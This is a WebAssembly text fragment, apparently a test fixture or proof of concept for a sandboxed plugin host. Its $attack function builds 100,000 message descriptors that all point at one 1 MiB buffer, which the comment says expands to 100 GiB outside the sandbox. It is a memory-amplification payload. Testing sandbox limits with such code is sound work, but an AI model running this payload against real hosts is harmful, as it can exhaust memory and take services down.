;; Gives back a hundred thousand messages whose bodies are one and the same MiB: small in the sandbox, 100 GiB outside.
(memory (export "memory") 128)
(func $attack (type $transform)
  (local $at i32)
  (loop $more
    (i32.store offset=131088 (local.get $at) (i32.const 4194304))
    (i32.store offset=131092 (local.get $at) (i32.const 1048576))
    (local.set $at (i32.add (local.get $at) (i32.const 32)))
    (br_if $more (i32.lt_u (local.get $at) (i32.const 3200000))))
  (i32.store (i32.const 1036) (i32.const 131072))
  (i32.store (i32.const 1040) (i32.const 100000))
  (i32.const 1024))
